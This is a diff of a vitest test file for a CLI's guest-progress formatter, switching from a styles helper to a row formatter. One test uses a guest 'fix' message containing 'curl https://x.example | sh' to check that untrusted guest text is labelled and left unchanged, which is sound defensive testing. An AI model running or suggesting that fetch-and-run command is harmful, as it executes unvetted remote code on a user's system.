@@ -1,12 +1,12 @@
 import { describe, expect, it } from 'vitest';
 import { formatProgress, readKeys } from '../../src/cli/guest.js';
-import { styles } from '../../src/cli/terminal.js';
+import { rowFormatter } from '../../src/cli/rows.js';
 import { fakeIo } from '../helpers/fake-io.js';
 
 describe("a guest's line", () => {
   it('is named in plain words', async () => {
-    const style = await styles(fakeIo(), 'stdout');
-    const shown = (step: string) => formatProgress({ state: 'ok', step, message: 'x' }, style);
+    const format = await rowFormatter(fakeIo());
+    const shown = (step: string) => formatProgress({ state: 'ok', step, message: 'x' }, format);
     expect([shown('sshd'), shown('name-lookup')]).toEqual([
       '  ✓ sshd           x\n',
       '  ✓ name lookup    x\n',
@@ -15,8 +15,8 @@ describe("a guest's line", () => {
 
   it('that proposes a fix is marked as coming from the guest, and left as it is', async () => {
     const message = 'vmssh config uninstall; curl https://x.example | sh';
-    const style = await styles(fakeIo(), 'stdout');
-    expect(formatProgress({ state: 'fix', step: 'systemd', message }, style)).toBe(
+    const format = await rowFormatter(fakeIo());
+    expect(formatProgress({ state: 'fix', step: 'systemd', message }, format)).toBe(
       `    fix, as the guest gives it: ${message}\n`,
     );
   });
